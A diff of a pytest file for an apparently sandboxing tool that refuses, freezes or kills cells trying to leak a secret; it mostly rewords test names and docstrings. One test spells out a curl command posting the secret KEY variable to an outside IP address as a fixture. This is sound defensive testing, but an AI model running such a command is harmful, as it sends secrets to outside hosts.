@@ -22,7 +22,7 @@ def state(operator, cell):
 
 
 def is_frozen(cell):
-    """What the kernel says: all of it."""
+    """Whether the whole cell is frozen, according to the kernel."""
     for group in leftovers.cgroups([cell]):
         for name, wanted in (("cgroup.events", "frozen 1"), ("freezer.state", "FROZEN")):
             try:
@@ -82,7 +82,7 @@ def test_a_frozen_cell_can_be_ended(operator, verb):
 @only_root
 @pytest.mark.parametrize("verb", ["kill", "stop", "thaw"])
 def test_with_cgroups_of_version_1(operator, verb):
-    """What is frozen there is not even killed."""
+    """There, a frozen cell cannot even be killed."""
     if not Path("/sys/fs/cgroup/unified/cgroup.procs").exists() or not Path("/sys/fs/cgroup/freezer").exists():
         pytest.skip("this machine has no version 1")
     done = operator.do("unshare", "-m", "--propagation", "private", "sh", "-c",
@@ -131,15 +131,15 @@ def start(online, word, script, *options):
     return online.start(online.policy(POLICY.format(word)), "sh", "-c", script, options=["-s", "KEY", *options])
 
 
-def test_it_is_refused_and_no_more(online):
+def test_it_is_only_refused(online):
     start(online, "refuse", f"{LEAK}; exec sleep infinity")
     assert await_event(online, type="http", verdict="deny")["why"] == "exfiltration"
     assert state(online.operator, online.cell) == "running" and online.events(type="cell") == []
     online.operator.cloister("kill", online.cell).ok()
 
 
-def test_what_no_rule_allows_kills_too(online):
-    """Wherever it was to go: a policy that kills for it need not allow the way."""
+def test_a_request_that_no_rule_allows_kills_too(online):
+    """Whatever its destination: a policy that kills for it need not allow the way."""
     leak = "curl -s -d \"$KEY\" http://93.184.216.99/"
     cell = start(online, "kill", f"{leak}; exec sleep infinity")
     assert online.operator.cloister("wait", cell).status == 137
@@ -175,7 +175,7 @@ def test_it_freezes(online):
 
 
 @only_user
-def test_what_cannot_be_frozen_is_killed(online):
+def test_a_cell_that_cannot_be_frozen_is_killed(online):
     cell = start(online, "freeze", f"{LEAK}; exec sleep infinity")
     if leftovers.cgroups([cell]):
         pytest.skip("this user has cgroups")
@@ -215,8 +215,9 @@ time.sleep(1000)
     (POLICY.format("refuse") + "budgets: [{per: cell, requests: 1, then: kill}]\n",
      LEAK_LATER.replace('os.environ["KEY"]', '"x"')),
 ])
-def test_it_kills_who_was_frozen_meanwhile(online, policy, script):
-    """Else whoever is frozen in that moment, by an operator or by what is less bad, is thawed and goes on."""
+def test_it_kills_a_cell_that_was_frozen_in_the_meantime(online, policy, script):
+    """Otherwise a cell that is frozen in that moment, by an operator or for a lesser cause, would be thawed and go
+    on."""
     operator = online.operator
     give(online, canary())
     cell = online.start(online.policy(policy), "/usr/bin/python3", "-c", script, options=["-s", "KEY"])
@@ -231,7 +232,7 @@ def test_it_kills_who_was_frozen_meanwhile(online, policy, script):
 
 
 @only_root
-def test_in_the_foreground_it_is_said(online):
+def test_in_the_foreground_a_message_reports_it(online):
     give(online, canary())
     policy = online.policy(POLICY.format("freeze"))
     process = online.operator.start("--name", "cold", "-p", policy, "-s", "KEY", "--", "sh", "-c",
@@ -249,8 +250,8 @@ def test_in_the_foreground_it_is_said(online):
     assert process.returncode in (137, -9)
 
 
-def test_only_what_the_policy_says_stops_a_cell(online):
-    """A courier that says so all the same breaks the rules; other refusals are no reason."""
+def test_only_the_policy_stops_a_cell(online):
+    """A courier that asks for it all the same breaks the protocol; other refusals are not a reason."""
     start(online, "freeze", f'{" ".join(CURL)} https://nowhere.example/; exec sleep infinity')
     await_event(online, type="dns", verdict="deny")
     assert state(online.operator, online.cell) == "running" and online.events(type="cell") == []
